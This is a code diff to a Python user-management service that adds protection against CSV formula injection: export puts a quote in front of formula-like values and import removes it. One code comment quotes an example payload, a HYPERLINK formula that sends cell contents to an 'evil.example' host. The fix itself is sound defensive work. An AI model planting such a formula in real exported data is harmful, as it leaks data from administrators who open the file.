@@ -551,7 +551,7 @@ def csv_records(text: str) -> tuple[list[str], list[tuple[int, list[str]]]]:
                 raise ImportProblem(
                     f"The file has more than {IMPORT_MAX_ROWS:,} rows: split it into smaller files."
                 )
-            records.append((number, [cell.strip() for cell in cells]))
+            records.append((number, [as_imported(cell.strip()) for cell in cells]))
     except csv.Error as error:
         raise ImportProblem(
             f"Row {reader.line_num}: the file is not valid CSV ({error})."
@@ -802,6 +802,22 @@ def user_gone(_error: NotFoundError) -> HTTPException:
 
 # -- CSV export ---------------------------------------------------------------------------------
 
+# A spreadsheet program runs a cell that starts with one of these as a formula, so a value
+# such as '=HYPERLINK("http://evil.example?"&A1)' in a user's title would run on the
+# administrator's machine (CSV injection, OWASP). The export puts a quote in front, which
+# spreadsheets show as text, and the import takes it off again. Values that start with a
+# quote get one more, so every value makes the round trip unchanged ("+31 20 ..." too).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")
+
+
+def as_exported(value: str) -> str:
+    return "'" + value if value.startswith(FORMULA_STARTS) else value
+
+
+def as_imported(cell: str) -> str:
+    """A cell as the user meant it: without the quote :func:`as_exported` put in front."""
+    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell
+
 
 def csv_row(resource: dict, user_names: dict[str, str]) -> list[str]:
     """One user in the import's columns; the manager by userName, so the file reads (and
@@ -811,7 +827,7 @@ def csv_row(resource: dict, user_names: dict[str, str]) -> list[str]:
         value = mapped_value(resource, path)
         if name == MANAGER and value:
             value = user_names.get(value.get("value"), "")  # a manager since deleted: none
-        row.append(value if isinstance(value, str) else "")
+        row.append(as_exported(value) if isinstance(value, str) else "")
     row.append("true" if is_active(resource) else "false")
     return row
 
